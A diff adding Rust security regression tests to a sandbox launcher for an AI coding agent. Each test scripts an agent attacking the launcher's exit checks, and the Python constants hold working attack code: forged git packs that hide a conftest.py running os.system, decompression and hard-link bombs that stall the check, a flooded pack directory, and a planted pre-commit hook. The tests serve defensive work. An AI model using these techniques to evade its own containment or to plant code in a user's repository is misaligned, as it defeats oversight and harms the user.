@@ -6751,3 +6751,293 @@ fn re_attack_60_r4_a_separate_git_directory_in_a_skipped_directory_is_protected(
         "the user's `git commit` ran the agent's hook in node_modules/.gd/hooks; the exit said: {said}"
     );
 }
+
+// ---------------------------------------------------------------------------------------------
+// The sixty-first re-attack (decision 0013): the tests below assert the secure outcome; each
+// fails while its hole is open.
+// ---------------------------------------------------------------------------------------------
+
+/// `aileron launch claude` in `work`, killed after `seconds`: its output and how long it ran.
+fn ra61_launch_within(rig: &LaunchRig, work: &Path, seconds: u32) -> (std::process::Output, std::time::Duration) {
+    let command = rig.command_at(work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
+    let mut wrapped = Command::new("timeout");
+    wrapped.arg("--signal=KILL").arg(seconds.to_string()).arg(command.get_program()).args(command.get_args());
+    if let Some(dir) = command.get_current_dir() {
+        wrapped.current_dir(dir);
+    }
+    for (name, value) in command.get_envs() {
+        match value {
+            Some(value) => wrapped.env(name, value),
+            None => wrapped.env_remove(name),
+        };
+    }
+    let started = std::time::Instant::now();
+    let output = wrapped.stdin(std::process::Stdio::null()).output().unwrap();
+    (output, started.elapsed())
+}
+
+/// R61-1: the exit held for hours by delta chains that cost time and no budget. `pack::check`
+/// counts against its 1 GiB only the bytes zlib and deltas *make*, keeps bodies for later deltas
+/// only while 96 MiB allows, and follows each entry's chain down again whenever its links are not
+/// kept. The first entry is a delta on a 96 MiB blob of zeros (96 KiB of zlib, not indexed): the
+/// blob fills the cache, so nothing after it is kept. Then a chain of 256 one-byte deltas, each a
+/// zlib stream padded with 13,000 empty stored blocks (65 KB read and parsed, 4 bytes made), and
+/// 200,000 entries each a one-byte delta on the chain's last link, all true to their (one) name:
+/// each entry re-inflates the 256 padded links, 51 million inflations of 65 KB, 256 MB made in
+/// all, well within the budget. The forged entry (the user-visible F2: harmless content under the
+/// name of the agent's committed `conftest.py`) is last. Held here to 300 s: the exit is killed
+/// before the pack is moved, and nothing of `IndexSnapshot::hidden` (nor anything later) is said.
+#[test]
+fn re_attack_61_r1_padded_delta_chains_past_the_cache_do_not_hold_the_exit() {
+    let rig = LaunchRig::new();
+    let work = ra57_trusted_workspace(&rig);
+    claude_runs(&rig, format!("{RA57_HELPERS}{RA61_CHAIN_BOMB}"));
+    let (output, took) = ra61_launch_within(&rig, &work, 300);
+    let said = text(&output);
+    let (shown, checked_out) = ra57_shown_and_checked_out(&work);
+    assert!(checked_out.contains("os.system"), "the agent's conftest.py is there: {checked_out}");
+    assert!(
+        output.status.success() && !shown.contains("pytest settings"),
+        "the exit ran {took:?} and ended {:?}; git log -p shows another conftest.py than runs ({shown:?}); the exit \
+         said: {said}",
+        output.status
+    );
+}
+
+const RA61_CHAIN_BOMB: &str = r##"
+CHAIN = 256
+PAD = 13000
+TOPS = 200_000
+BIG = 96 << 20
+def padded(data):
+    return (b'\x78\x01' + b'\x00\x00\x00\xff\xff' * PAD + b'\x01' + struct.pack('<HH', len(data), len(data) ^ 0xffff)
+            + data + struct.pack('>I', zlib.adler32(data)))
+def ofs(at, base):
+    back = at - base; out = [back & 0x7f]; back >>= 7
+    while back:
+        back -= 1; out.insert(0, 0x80 | (back & 0x7f)); back >>= 7
+    return bytes(out)
+def varint(n):
+    out = bytearray()
+    while True:
+        b = n & 0x7f; n >>= 7
+        if n: out.append(b | 0x80)
+        else: out.append(b); return bytes(out)
+blob = commit_evil_conftest()
+c = max((bytes([x]) for x in range(256)), key=lambda b: (hashlib.sha1(b'blob 1\0' + b).digest() < blob, -hashlib.sha1(b'blob 1\0' + b).digest()[0]))
+top_name = hashlib.sha1(b'blob 1\0' + c).digest()
+assert top_name < blob
+pack = bytearray(b'PACK' + struct.pack('>II', 2, TOPS + 1))
+big_at = len(pack)
+pack += head_of(3, BIG) + zlib.compress(b'\0' * BIG, 1)
+tops = [len(pack)]
+d = varint(BIG) + b'\x01\x01' + c
+pack += head_of(6, len(d)) + ofs(tops[0], big_at) + zlib.compress(d)
+chain = [len(pack)]
+pack += head_of(3, 1) + zlib.compress(b'a')
+step = padded(b'\x01\x01\x01a')
+for _ in range(CHAIN - 1):
+    at = len(pack)
+    pack += head_of(6, 4) + ofs(at, chain[-1]) + step
+    chain.append(at)
+d = zlib.compress(b'\x01\x01\x01' + c)
+for _ in range(TOPS - 1):
+    at = len(pack)
+    pack += head_of(6, 4) + ofs(at, chain[-1]) + d
+    tops.append(at)
+forged_at = len(pack)
+pack += head_of(3, len(HARMLESS)) + zlib.compress(HARMLESS)
+pack = bytes(pack)
+pack += hashlib.sha1(pack).digest()
+names = [top_name] * TOPS + [blob]
+offsets = tops + [forged_at]
+idx = bytearray(b'\xfftOc' + struct.pack('>I', 2))
+for bucket in range(256):
+    idx += struct.pack('>I', (TOPS if top_name[0] <= bucket else 0) + (1 if blob[0] <= bucket else 0))
+idx += b''.join(names) + b'\0' * 4 * len(names) + b''.join(struct.pack('>I', o) for o in offsets) + pack[-20:]
+idx += hashlib.sha1(bytes(idx)).digest()
+stem = os.path.join('.git/objects/pack', 'pack-' + '6' * 40)
+open(stem + '.pack', 'wb').write(pack)
+open(stem + '.idx', 'wb').write(bytes(idx))
+"##;
+
+/// R61-2: a forged pack past the first 100,000 entries of `objects/pack`. `Objects::forged_packs`
+/// reads at most 100,000 entries of the directory (`read_dir(..).take(100_000)`) and holds only the
+/// `.idx` files among them against their packs; git reads every `.idx` there. The agent fills
+/// `objects/pack` with 150,000 empty files (git ignores names that are not a pack's; the walk for
+/// strays looks through up to 200,000 entries, so it is complete and says nothing), then writes
+/// the fifty-second re-attack's F2 (a one-object pack naming the blob of its committed
+/// `conftest.py` for harmless content), renaming it until its `.idx` lists past the 100,000th
+/// entry. In a plain workspace (as `re_attack_57_held_a_forged_pack_in_a_plain_workspace_is_not_left`)
+/// the exit says nothing at all; where a protected or trusted path lies in the worktree it says
+/// only the general warning that what git holds of it could not be looked at. `git show` and
+/// `git log -p` show the harmless content while the checked-out `conftest.py` runs a command.
+#[test]
+fn re_attack_61_r2_a_forged_pack_listed_past_the_first_100000_entries_is_not_left() {
+    let rig = LaunchRig::new();
+    let (work, _) = rig.committed_workspace();
+    claude_runs(&rig, format!("{RA57_HELPERS}{RA61_CROWDED_PACK_DIR}"));
+    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
+    let said = text(&output);
+    assert!(output.status.success(), "{said}");
+    let (shown, checked_out) = ra57_shown_and_checked_out(&work);
+    assert!(checked_out.contains("os.system"), "the agent's conftest.py is there: {checked_out}");
+    assert!(
+        !shown.contains("pytest settings"),
+        "git log -p shows another conftest.py than runs ({shown:?}); the exit said: {said}"
+    );
+}
+
+const RA61_CROWDED_PACK_DIR: &str = r##"
+blob = commit_evil_conftest()
+pack = one_object_pack(HARMLESS)
+pack += hashlib.sha1(pack).digest()
+d = '.git/objects/pack'
+for n in range(150_000):
+    open(os.path.join(d, 'tmp_%d' % n), 'wb').close()
+k = 0
+while True:
+    stem = os.path.join(d, 'pack-%040x' % k)
+    open(stem + '.pack', 'wb').write(pack)
+    open(stem + '.idx', 'wb').write(index_of(blob, pack[-20:]))
+    if [e.name for e in os.scandir(d)].index(os.path.basename(stem) + '.idx') >= 100_000:
+        break
+    os.remove(stem + '.pack'); os.remove(stem + '.idx'); k += 1
+"##;
+
+/// R61-3: the exit held for days by loose objects. `Objects::new_commit_trees` inflates and
+/// hashes each loose object changed in the session, up to 1 GiB each (`MAX_CHECKED_BYTES`) and
+/// 200,000 of them (`MAX_NEW_OBJECTS`), with no budget over them all. The agent writes one loose
+/// object of 1 GiB of zeros (1 MiB of zlib) and hard-links it under 2,000 names in
+/// `.git/objects/ab/` (one file on disk; 200,000 links would hold the exit for days): each is
+/// inflated whole before its name is compared. The fifty-second re-attack's F2 pack is left
+/// beside them; the exit, held here to 300 s, never reaches moving it.
+#[test]
+fn re_attack_61_r3_hard_linked_loose_objects_do_not_hold_the_exit() {
+    let rig = LaunchRig::new();
+    let work = ra57_trusted_workspace(&rig);
+    claude_runs(&rig, format!("{RA57_HELPERS}{RA61_LOOSE_BOMB}"));
+    let (output, took) = ra61_launch_within(&rig, &work, 300);
+    let said = text(&output);
+    let (shown, checked_out) = ra57_shown_and_checked_out(&work);
+    assert!(checked_out.contains("os.system"), "the agent's conftest.py is there: {checked_out}");
+    assert!(
+        output.status.success() && !shown.contains("pytest settings"),
+        "the exit ran {took:?} and ended {:?}; git log -p shows another conftest.py than runs ({shown:?}); the exit \
+         said: {said}",
+        output.status
+    );
+}
+
+const RA61_LOOSE_BOMB: &str = r##"
+blob = commit_evil_conftest()
+pack = one_object_pack(HARMLESS)
+pack += hashlib.sha1(pack).digest()
+stem = os.path.join('.git/objects/pack', 'pack-' + '7' * 40)
+open(stem + '.pack', 'wb').write(pack)
+open(stem + '.idx', 'wb').write(index_of(blob, pack[-20:]))
+size = 1 << 30
+z = zlib.compressobj(9)
+data = z.compress(b'blob %d\0' % size)
+chunk = b'\0' * (1 << 20)
+for _ in range(size >> 20):
+    data += z.compress(chunk)
+data += z.flush()
+os.makedirs('.git/objects/ab', exist_ok=True)
+first = '.git/objects/ab/' + '0' * 38
+open(first, 'wb').write(data)
+for n in range(1, 2000):
+    os.link(first, '.git/objects/ab/%038x' % n)
+"##;
+
+/// R61-4: the exit held for days by packs. `pack::check`'s 1 GiB budget is one pack's:
+/// `Objects::forged_packs` checks every pack written in the session, each with a budget of its
+/// own, and there is none over them all. The agent writes one pack whose one entry inflates
+/// past 1 GiB (1 MiB of zlib) and hard-links it, with its index, under 2,000 names in
+/// `.git/objects/pack` (one file on disk; each link's time is the session's): each is inflated to
+/// 1 GiB before it is found too large. The fifty-second re-attack's F2 pack is left beside them;
+/// the exit, held here to 300 s, never reaches moving it (nor warning of any pack).
+#[test]
+fn re_attack_61_r4_hard_linked_packs_do_not_hold_the_exit() {
+    let rig = LaunchRig::new();
+    let work = ra57_trusted_workspace(&rig);
+    claude_runs(&rig, format!("{RA57_HELPERS}{RA61_PACK_LINKS}"));
+    let (output, took) = ra61_launch_within(&rig, &work, 300);
+    let said = text(&output);
+    let (shown, checked_out) = ra57_shown_and_checked_out(&work);
+    assert!(checked_out.contains("os.system"), "the agent's conftest.py is there: {checked_out}");
+    assert!(
+        output.status.success() && !shown.contains("pytest settings"),
+        "the exit ran {took:?} and ended {:?}; git log -p shows another conftest.py than runs ({shown:?}); the exit \
+         said: {said}",
+        output.status
+    );
+}
+
+const RA61_PACK_LINKS: &str = r##"
+blob = commit_evil_conftest()
+pack = one_object_pack(HARMLESS)
+pack += hashlib.sha1(pack).digest()
+stem = os.path.join('.git/objects/pack', 'pack-' + '8' * 40)
+open(stem + '.pack', 'wb').write(pack)
+open(stem + '.idx', 'wb').write(index_of(blob, pack[-20:]))
+size = (1 << 30) + 16
+z = zlib.compressobj(9)
+big = bytearray(b'PACK' + struct.pack('>II', 2, 1) + head_of(3, size))
+chunk = b'\0' * (1 << 20)
+for _ in range(1 << 10):
+    big += z.compress(chunk)
+big += z.compress(b'\0' * 16) + z.flush()
+big = bytes(big)
+big += hashlib.sha1(big).digest()
+first = os.path.join('.git/objects/pack', 'pack-' + 'b' * 40)
+open(first + '.pack', 'wb').write(big)
+open(first + '.idx', 'wb').write(index_of(hashlib.sha1(b'x').digest(), big[-20:]))
+for n in range(1, 2000):
+    other = os.path.join('.git/objects/pack', 'pack-%040x' % (0xb0000 + n))
+    os.link(first + '.pack', other + '.pack')
+    os.link(first + '.idx', other + '.idx')
+"##;
+
+/// R61-5: R60-4 again, the git directory kept in a skipped directory of a `--writable` path
+/// instead of the workspace. `protect_checkout` protects a separate git directory in a skipped
+/// directory only when it lies below `searched`, the tree being searched (here the workspace);
+/// the search of the writable path itself skips `node_modules`. So `git init --separate-git-dir
+/// <extra>/node_modules/.gd` in the workspace, launched with `--writable <extra>`, leaves the
+/// git directory's `hooks` writable and nothing said: the agent writes a `pre-commit` hook and the
+/// user's next `git commit` runs it.
+#[test]
+fn re_attack_61_r5_a_separate_git_directory_in_a_skipped_directory_of_a_writable_path_is_protected() {
+    let rig = LaunchRig::new();
+    let work = rig.workspace();
+    let extra = rig.temp.path().join("extra");
+    std::fs::create_dir_all(extra.join("node_modules")).unwrap();
+    let gd = extra.join("node_modules/.gd");
+    let git = |args: &[&str]| Command::new("git").args(args).current_dir(&work).status().unwrap().success();
+    assert!(git(&["init", "-q", "--separate-git-dir", gd.to_str().unwrap()]));
+    assert!(git(&["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", "first"]));
+    let script = format!(
+        "#!/bin/sh\nprintf '#!/bin/sh\\ntouch PWNED\\n' > {0}/hooks/pre-commit\nchmod +x {0}/hooks/pre-commit\ntrue\n",
+        gd.display()
+    );
+    claude_runs(&rig, script);
+    let output = rig.command_in(
+        &work,
+        &["launch", "--writable", extra.to_str().unwrap(), "claude"],
+        Some(Path::new("/usr/bin")),
+        &[],
+    );
+    let said = text(&output);
+    assert!(output.status.success(), "{said}");
+    let committed = Command::new("git")
+        .args(["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", "next"])
+        .current_dir(&work)
+        .status()
+        .unwrap();
+    assert!(committed.success());
+    assert!(
+        !work.join("PWNED").exists(),
+        "the user's `git commit` ran the agent's hook in {}/hooks; the exit said: {said}",
+        gd.display()
+    );
+}
